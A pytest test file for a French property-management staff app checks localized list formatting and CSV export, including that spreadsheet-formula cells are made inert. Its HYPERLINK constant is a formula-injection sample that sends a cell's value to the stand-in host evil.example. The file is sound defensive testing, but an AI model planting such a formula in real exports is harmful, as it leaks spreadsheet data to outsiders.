"""Staff lists and show pages read like French, and any filtered list exports to a CSV file French Excel opens.

Lists show Paris-time timestamps, Babel amounts, Oui/Non, enum labels and « — » instead of technical values; the
export has the rows of the current search and order on every page, the list's labels, a BOM, `;` between cells,
and text cells a spreadsheet would run as formulas made inert, while negative amounts stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from app import formatting
from app.extensions import db
from app.models import Household, Lease, LedgerEntry, TenantAccount

STAFF = "gestionnaire@example.org"
TENANT = "locataire@example.org"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")'
CELL_RE = re.compile(r"<td>(.*?)</td>", re.S)
TAG_RE = re.compile(r"<[^>]+>")
TECHNICAL = ("None", "True", "False", "+00:00")
DASH = "—"


def cells(response) -> list[str]:
    assert response.status_code == 200
    # Only ASCII blanks are squeezed: Babel's amounts hold U+202F and U+00A0.
    return [re.sub(r"[ \t\r\n]+", " ", TAG_RE.sub("", cell)).strip()
            for cell in CELL_RE.findall(response.get_data(as_text=True))]


def formatted(app, function, *args) -> str:
    """What a formatting helper gives in a French request (Babel's spaces are U+202F / U+00A0)."""
    with app.test_request_context():
        return function(*args)


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def search_index(app, view: str, column: str, filter_name: str) -> int:
    """The `<n>` of `_flt_<n>_<column>` for one of Flask-AppBuilder's filters on a view."""
    instance = next(v for v in app.appbuilder.baseviews if type(v).__name__ == view)
    return [type(flt).__name__ for flt in instance._filters.get_search_filters()[column]].index(filter_name)


# --- lists and show pages ------------------------------------------------------------------------------------------

def test_tenant_accounts_list_shows_paris_time_yes_no_and_dash(app, client_for, demo):
    with app.app_context():
        accounts = db.session.scalars(sa.select(TenantAccount).order_by(TenantAccount.id)).all()
        assert len(accounts) >= 2
        accounts[0].activated_at = datetime(2026, 11, 25, 19, 38, 18, 66803, tzinfo=timezone.utc)
        accounts[0].user.last_login = datetime(2026, 7, 1, 8, 5)  # naive: Flask-AppBuilder's datetime.now()
        accounts[1].user.active = False
        accounts[1].user.last_login = None
        db.session.commit()
    values = cells(client_for(STAFF).get("/stafftenantaccountview/list/"))
    assert "25/11/2026 20:38" in values  # activated_at, UTC+1 in November
    last_login = datetime(2026, 7, 1, 8, 5).astimezone().astimezone(ZoneInfo("Europe/Paris"))  # server's time
    assert f"{last_login:%d/%m/%Y %H:%M}" in values  # user.last_login, through the relation
    assert "Oui" in values and "Non" in values  # user.active
    assert DASH in values
    assert not [value for value in values if any(word in value for word in TECHNICAL)]


def test_ledger_and_lease_lists_show_amounts_and_enum_labels(app, client_for, demo):
    with app.app_context():
        lease = db.session.get(Lease, demo["locataire_lease"])
        lease.rent = Decimal("1234.56")
        entry = db.session.scalar(sa.select(LedgerEntry).where(LedgerEntry.household_id == demo["locataire"])
                                  .order_by(LedgerEntry.entry_date.desc()))
        number = lease.household.client_number
        signed = entry.signed_amount
        db.session.commit()
    client = client_for(STAFF)
    leases = cells(client.get(f"/staffleaseview/list/?_flt_0_household={number}"))
    assert formatted(app, formatting.money, Decimal("1234.56")) in leases  # `1 234,56 €`
    assert not [value for value in leases if any(word in value for word in TECHNICAL)]
    ledger = cells(client.get(f"/staffledgerentryview/list/?_flt_0_household={number}"))
    assert formatted(app, formatting.money, signed) in ledger
    assert {"Avis d'échéance", "Avis d&#39;échéance"} & set(ledger)  # EntryKind's label, not DUE_NOTICE
    assert "DUE_NOTICE" not in ledger and "due_notice" not in ledger
    assert DASH in ledger  # no due date on a payment
    assert not [value for value in ledger if any(word in value for word in TECHNICAL)]


def test_household_show_page_reads_like_french(app, client_for, demo):
    with app.app_context():
        household = db.session.get(Household, demo["locataire"])
        household.paperless_consent, household.payment_incident, household.phone = True, False, None
        db.session.commit()
    response = client_for(STAFF).get(f"/agence/foyers/{demo['locataire']}")
    values = cells(response) + [TAG_RE.sub("", value).strip() for value in
                                re.findall(r"<dd>(.*?)</dd>", response.get_data(as_text=True), re.S)]
    assert "Oui" in values and "Non" in values and DASH in values
    assert any(value.endswith("€") for value in values)  # the balance
    assert not [value for value in values if any(word in value for word in TECHNICAL)]


# --- CSV export ----------------------------------------------------------------------------------------------------

def _three_households_in_vierzon(app, demo) -> list[str]:
    """Three households moved to Vierzon, one named like a spreadsheet formula; their client numbers."""
    with app.app_context():
        households = db.session.scalars(sa.select(Household).order_by(Household.id).limit(3)).all()
        for household in households:
            household.billing_city = "Vierzon"
        households[1].signatory_last_name = HYPERLINK
        db.session.commit()
        return [household.client_number for household in households]


def test_export_has_exactly_the_filtered_rows_in_order_on_every_page(app, client_for, demo):
    numbers = _three_households_in_vierzon(app, demo)
    city = search_index(app, "StaffHouseholdView", "billing_city", "FilterEqual")
    query = (f"_flt_{city}_billing_city=Vierzon&_oc_StaffHouseholdView=client_number"
             "&_od_StaffHouseholdView=desc&psize_StaffHouseholdView=1&page_StaffHouseholdView=0")
    client = client_for(STAFF)
    page = client.get(f"/staffhouseholdview/list/?{query}").get_data(as_text=True)
    assert f'href="/staffhouseholdview/export/?{query.replace("&", "&amp;")}"' in page
    assert "Exporter (CSV)" in page
    rows = read_csv(client.get(f"/staffhouseholdview/export/?{query}"))
    assert rows[0] == ["Numéro client", "Nom du signataire", "Prénom du signataire", "Ville (facturation)",
                       "Adresse e-mail", "Agence"]
    assert [row[0] for row in rows[1:]] == sorted(numbers, reverse=True)  # all three, not the one page
    assert {row[3] for row in rows[1:]} == {"Vierzon"}
    assert "'" + HYPERLINK in [row[1] for row in rows[1:]]


def test_export_keeps_negative_amounts_as_numbers_and_neutralises_text(app, client_for, demo):
    with app.app_context():
        household = db.session.get(Household, demo["retard"])
        number = household.client_number
        entries = db.session.scalars(sa.select(LedgerEntry).where(LedgerEntry.household_id == household.id)
                                     .order_by(LedgerEntry.entry_date.desc(), LedgerEntry.id.desc())).all()
        entries[0].label = "-1+1 @SOMME"
        db.session.commit()
        # French Excel's numbers: a decimal comma, no grouping, no currency sign, a plain minus.
        expected = [(f"{e.entry_date:%d/%m/%Y}", e.label, f"{e.signed_amount:.2f}".replace(".", ","))
                    for e in entries]
    rows = read_csv(client_for(STAFF).get(f"/staffledgerentryview/export/?_flt_0_household={number}"))
    assert rows[0] == ["Date", "Foyer", "Contrat", "Type", "Libellé", "Montant", "Période", "Échéance"]
    assert len(rows) == len(expected) + 1
    assert [(row[0], row[4], row[5]) for row in rows[1:]] == [
        (day, "'" + label if label.startswith("-") else label, amount) for day, label, amount in expected]
    assert any(row[5].startswith("-") and "," in row[5] for row in rows[1:])  # a credit: `-465,98`, no quote
    assert rows[1][4] == "'-1+1 @SOMME"


def test_export_reads_related_rows_without_one_query_per_row(app, client_for, demo):
    client = client_for(STAFF)
    statements = []

    def count(*args):
        statements.append(args[2])

    with app.app_context():
        number = db.session.get(Household, demo["locataire"]).client_number
        engine = db.engine
    sa.event.listen(engine, "before_cursor_execute", count)
    try:
        few = read_csv(client.get(f"/staffledgerentryview/export/?_flt_0_household={number}"))
        few_statements = len(statements)
        statements.clear()
        every = read_csv(client.get("/staffledgerentryview/export/"))
        every_statements = len(statements)
    finally:
        sa.event.remove(engine, "before_cursor_execute", count)
    assert len(every) > len(few) + 50
    assert every_statements == few_statements


def test_export_past_the_limit_asks_for_a_narrower_search(app, client_for, demo, monkeypatch):
    from app.staff.views import StaffHouseholdView

    monkeypatch.setattr(StaffHouseholdView, "export_max_rows", 2, raising=False)
    client = client_for(STAFF)
    response = client.get("/staffhouseholdview/export/?_oc_StaffHouseholdView=client_number"
                          "&_od_StaffHouseholdView=asc")
    assert response.status_code == 302
    assert response.location.endswith("/staffhouseholdview/list/?_oc_StaffHouseholdView=client_number"
                                      "&_od_StaffHouseholdView=asc")
    page = client.get(response.location).get_data(as_text=True)
    assert "l&#39;export est limité à 2 lignes" in page or "l'export est limité à 2 lignes" in page


def test_export_is_refused_to_tenants_and_anonymous_users(client_for, demo):
    assert client_for(TENANT).get("/staffhouseholdview/export/").status_code == 403
    response = client_for(None).get("/staffhouseholdview/export/")
    assert response.status_code == 302 and "/login/" in response.location


def test_export_with_junk_arguments_is_a_400(client_for, demo):
    client = client_for(STAFF)
    for args in ("_oc_StaffHouseholdView=nosuchcolumn&_od_StaffHouseholdView=asc", "_flt_9_payment_incident=y",
                 "page_StaffHouseholdView=abc", "psize_StaffHouseholdView=-1"):
        assert client.get(f"/staffhouseholdview/export/?{args}").status_code == 400, args
    assert client.get("/staffpaymentview/export/?_flt_0_amount=1e999").status_code == 400


@pytest.mark.parametrize("typed", ["10/05/2026 14:30", "2026-05-10 14:30", "2026-05-10T14:30"])
def test_dates_typed_in_a_search_are_read_the_french_way(app, typed):
    """« 10/05/2026 » is the 10th of May (dateutil read it as the 5th of October); ISO stays ISO."""
    from app.staff.fields import read_moment

    with app.test_request_context():
        moment = read_moment(typed)
    assert (moment.year, moment.month, moment.day, moment.hour, moment.minute) == (2026, 5, 10, 12, 30)  # UTC
